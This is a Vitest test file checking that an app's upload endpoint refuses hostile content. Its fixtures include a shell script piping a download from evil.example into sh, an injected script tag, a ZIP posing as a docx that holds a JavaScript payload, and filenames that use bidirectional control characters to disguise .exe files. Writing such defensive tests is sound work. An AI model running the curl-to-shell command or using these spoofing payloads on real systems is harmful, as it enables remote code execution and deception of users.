import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { companyResourceEndpoints as company } from '../../schemas/resource/endpoints.ts';
import { files, vendorTypes } from '../../src/server/db/schema/index.ts';
import { apiCall, signInDemoAdmins } from '../helpers/api-call.ts';
import { endpointUrl } from '../helpers/endpoint-call.ts';
import { rowCount } from '../helpers/fixtures.ts';
import { fileParts, injectUpload, type Part, storedObjects } from '../helpers/multipart.ts';
import { officeFile, zipArchive } from '../helpers/office-files.ts';
import { buildTestApp, type TestApp } from '../helpers/test-app.ts';

/**
 * Issue 23 ('Found by a hostile client'), items 19 and 20, through the app: what an upload's bytes
 * must be to be kept as a document (README 'Files'), and bidirectional controls in any name.
 */

let t: TestApp;
let dataDir: string;
let adminToken: string;
let harborId: string;

const BIDI = 'must not contain bidirectional control characters (they change the order text is shown in)';

const documentParts = (fileName: string, content: Buffer, name = fileName): Part[] => [
  { field: 'kind', value: '1' },
  { field: 'name', value: name },
  ...fileParts({ fileName, content }),
];
const upload = (parts: readonly Part[]) =>
  injectUpload(t.app, endpointUrl(company.upload, harborId, {}), parts, adminToken);

beforeAll(async () => {
  dataDir = path.join(os.tmpdir(), `hostile-files-${process.pid}-${Date.now()}`);
  t = await buildTestApp({ DATA_DIR: dataDir });
  ({ adminToken, harborId } = await signInDemoAdmins(t));
});
afterAll(() => t?.close());

describe('item 19: markup, scripts and plain ZIPs are refused under any name; Office files are kept', () => {
  it('refuses each with 400 saying why, and stores nothing', async () => {
    const before = { objects: await storedObjects(dataDir), rows: await rowCount(t.database.db, files) };
    const cases: [string, Buffer, string][] = [
      ['install.txt', Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'HTML, XML or a script'],
      [
        'notes.txt',
        Buffer.from(`${'Leak in 4B, pressure < 2 bar.\n'.repeat(100)}<script>fetch('/api')</script>`),
        'HTML, XML or a script',
      ],
      ['report.docx', zipArchive([{ name: 'payload.js', content: 'alert(1)' }]), 'a plain ZIP archive'],
    ];
    for (const [fileName, content, why] of cases) {
      const response = await upload(documentParts(fileName, content));
      expect(response.statusCode, response.body).toBe(400);
      expect(response.json().message).toMatch(new RegExp(`^'${fileName}' is not a (Word )?document: its content is`));
      expect(response.json().message).toContain(why);
    }
    expect(await storedObjects(dataDir)).toEqual(before.objects);
    expect(await rowCount(t.database.db, files)).toBe(before.rows);
  });

  it('keeps a genuine docx and xlsx, and text that merely mentions < and >', async () => {
    for (const [fileName, content, contentType] of [
      ['report.docx', officeFile('docx'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      [
        'sheet.xlsx',
        officeFile('xlsx', { contentTypes: 'last' }),
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      ],
      ['notes.txt', Buffer.from('From: Pat Lee <pat@harbor.example>\npressure < 2 bar\n'), 'text/plain'],
    ] as const) {
      const response = await upload(documentParts(fileName, content));
      expect(response.statusCode, response.body).toBe(200);
      expect(response.json().file).toMatchObject({ fileName, contentType });
    }
  });
});

describe('item 20: bidirectional controls are refused in names like control characters', () => {
  it('in a JSON body field: 400 naming the field, nothing saved', async () => {
    const before = await rowCount(t.database.db, vendorTypes);
    const response = await apiCall(t.app, 'POST', `/api/company/${harborId}/vendorType`, {
      token: adminToken,
      payload: { name: 'Plumbing\u202Efdp.exe' },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ message: `name ${BIDI}`, validationErrors: [{ field: 'name', message: BIDI }] });
    expect(await rowCount(t.database.db, vendorTypes)).toBe(before);
  });

  it("in an upload's text field", async () => {
    const response = await upload(documentParts('notes.txt', Buffer.from('fine'), 'Invoice \u2066fdp.exe\u2069.pdf'));
    expect(response.statusCode).toBe(400);
    expect(response.json().validationErrors).toEqual([{ field: 'name', message: BIDI }]);
  });
});
